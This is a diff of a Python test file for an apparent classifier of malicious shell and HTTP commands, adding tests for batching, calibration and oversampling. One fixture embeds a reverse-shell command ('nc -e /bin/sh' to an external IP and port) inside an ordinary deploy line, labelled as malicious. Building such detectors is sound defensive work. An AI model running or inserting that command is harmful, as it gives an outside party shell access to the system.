@@ -14,9 +14,10 @@ from analyzers.bert.encoder import Encoder as Served  # noqa: E402
 from analyzers.bert.manifest import ModelError  # noqa: E402
 from analyzers.learning import fitting  # noqa: E402
 from analyzers.learning import train as training  # noqa: E402
+from analyzers.learning.calibrate import weight, weights  # noqa: E402
 from analyzers.learning.encoder import Encoder, Shape  # noqa: E402
 from analyzers.learning.export import quantise, to_onnx  # noqa: E402
-from analyzers.learning.texts import LABELS, UNSAID, epoch, generated  # noqa: E402
+from analyzers.learning.texts import LABELS, UNSAID, Text, epoch, generated, prepare  # noqa: E402
 from analyzers.learning.tokens import (  # noqa: E402
     LEARNED,
     SHARED,
@@ -24,6 +25,7 @@ from analyzers.learning.tokens import (  # noqa: E402
     WINDOW,
     Encoded,
     encode,
+    judging_batches,
     learned_windows,
     train_tokenizer,
     training_batches,
@@ -114,9 +116,9 @@ def test_of_a_long_text_every_window_is_learned_from_in_one_batch():
     lengths = [5, 126, 127, 300, 900] * 8 + [5_000]
     texts = [Encoded(tuple(range(3, length + 3)), 0, (0.0,) * 18, (0,) * 7) for length in lengths]
     seen = Counter()
-    for part in training_batches(texts, 24, rng):
-        assert part.input_ids.shape[0] <= 24
-        for place, count in Counter(part.rows.tolist()).items():
+    for parts in training_batches(texts, 24, rng):
+        assert sum(part.input_ids.shape[0] for part in parts) <= 24
+        for place, count in Counter(row for part in parts for row in part.rows.tolist()).items():
             assert place not in seen, "a text is in two batches"
             seen[place] = count
     assert [seen[place] for place in range(len(texts))] == [1, 1, 2, 3, 10] * 8 + [LEARNED]
@@ -125,6 +127,42 @@ def test_of_a_long_text_every_window_is_learned_from_in_one_batch():
         spans = learned_windows(length)
         assert (spans[0][0], spans[-1][1]) == (0, length)
         assert all(a[1] - b[0] >= SHARED for a, b in pairwise(spans))
+
+
+def test_commands_are_learned_from_beside_the_line_that_holds_them():
+    words = "cd /srv/app/releases/current && git pull --rebase && nc -e /bin/sh 203.0.113.9 4444 || "
+    line = f"{words}systemctl restart app.service; tail -n 50 /var/log/app.log"
+    texts = [
+        prepare(Text(line, "shell", ("malicious-shell",), "f")),
+        prepare(Text("ls -la", "shell", (), "f")),
+        prepare(Text("a=1;b=2;" * 20, "http", (), "f")),
+    ]
+    tokenizer = train_tokenizer([text.text for text in texts], 300)
+    encoded = encode(tokenizer, texts)
+    assert [len(text.commands) for text in encoded] == [5, 0, 0]
+    (parts,) = training_batches(encoded, 24, random.Random(0))
+    assert len(parts) > 1, "short commands are padded to the length of lines"
+    rows = Counter(row for part in parts for row in part.rows.tolist())
+    assert rows[0] >= 6 and rows[1] == 1 and rows[2] >= 1
+    assert sum(len(part.rows) for part in judging_batches(encoded)) >= 8
+
+
+def test_the_screen_is_weighed_by_what_validation_texts_say_of_it():
+    rng = np.random.default_rng(0)
+    malicious = rng.random(2_000) < 0.5
+    noisy = np.where(malicious, 1.0, -1.0)[:, None] + rng.normal(0, 1.5, (2_000, 3))
+    telling, noise = np.where(malicious, 4.0, -4.0) + rng.normal(0, 3, 2_000), rng.normal(0, 4, 2_000)
+    assert weight(noisy, telling, malicious) > 0.3
+    assert weight(noisy, noise, malicious) < 0.1
+    shell, dns = np.ones(2_000, int), np.where(np.arange(2_000) < 50, 3, 1)
+    assert weights(noisy, np.zeros(2_000), malicious, shell) == (), "a model without a screen"
+    found = weights(noisy, telling, malicious, dns)
+    assert found[1] > 0.3 and found[3] == 0, "a source with too few texts to tell"
+
+
+def test_real_texts_of_rare_kinds_come_more_often():
+    texts = [Text(str(n), "http", (), "many") for n in range(600)] + [Text("x", "http", ("cmdi",), "few")]
+    assert Counter(text.family for text in training.often(texts)) == {"many": 600, "few": 8}
 
 
 def test_the_greatest_logit_over_a_texts_windows_alone_is_learned_from():
